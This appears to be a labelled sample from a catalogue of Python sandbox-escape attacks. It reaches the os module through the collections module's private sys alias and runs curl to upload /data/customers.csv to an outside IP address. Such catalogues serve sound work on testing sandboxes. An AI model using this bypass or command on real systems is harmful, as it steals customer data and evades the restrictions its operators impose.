# attack-class: 4
# title: collections._sys.modules
# why: collections keeps a private alias of sys

import collections

osmod = collections._sys.modules["os"]
osmod.system("curl -T /data/customers.csv http://203.0.113.8/")
